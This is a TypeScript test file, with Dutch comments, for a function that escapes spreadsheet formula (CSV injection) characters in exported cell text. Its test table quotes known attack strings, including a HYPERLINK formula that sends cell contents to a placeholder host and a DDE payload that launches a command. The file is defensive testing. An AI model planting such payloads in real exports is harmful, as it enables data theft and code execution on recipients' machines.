import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { veiligeTekst } from '../../../beheer/export/veilige-tekst.ts';

describe('tekst in een cel', () => {
  // De tekens die OWASP noemt (CSV Injection), met aanvallen zoals zij in omloop zijn.
  test.each([
    ['=1+1', "'=1+1"], ['=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'], ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+31612345678', "'+31612345678"], ['-2+3+cmd|x', "'-2+3+cmd|x"], ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'=1+1"], ['\r=1+1', "'=1+1"], ['\n=1+1', "'=1+1"], ['  =1+1', "'=1+1"], ['\u00a0=1+1', "'=1+1"], ['\u0000=1+1', "'=1+1"], ['\ufeff=1+1', "'=1+1"], ['\u200b@x', "'@x"],
    ['＝1+1', "'＝1+1"], ['＋1', "'＋1"], ['－1', "'－1"], ['＠x', "'＠x"],
  ])('%j wordt geen formule', (in_, uit) => expect(veiligeTekst(in_)).toBe(uit));

  test.each(['KT-01, GK-01', '<5', 'niet getoond', 'a=b', 'Stichting "De Brug"', 'regel één\nregel twee', '• punt', "'t Kompas", ''])('%j blijft zoals het is', (tekst) => expect(veiligeTekst(tekst)).toBe(tekst));

  test('nooit een formule of een stuurteken, wat er ook in staat; wie al veilig is verandert niet meer', () => {
    fc.assert(fc.property(fc.string({ unit: fc.oneof(fc.constantFrom(...'=+-@\t\r\n \'"＝\u0000\ufeff'), fc.string({ minLength: 1, maxLength: 1 })) }), (tekst) => {
      const uit = veiligeTekst(tekst);
      expect(uit).not.toMatch(/^[=+\-@＝＋－＠\s]/u);
      expect(uit).not.toMatch(/[^\P{Cc}\n]/u);
      expect(veiligeTekst(uit)).toBe(uit);
    }));
  });
});
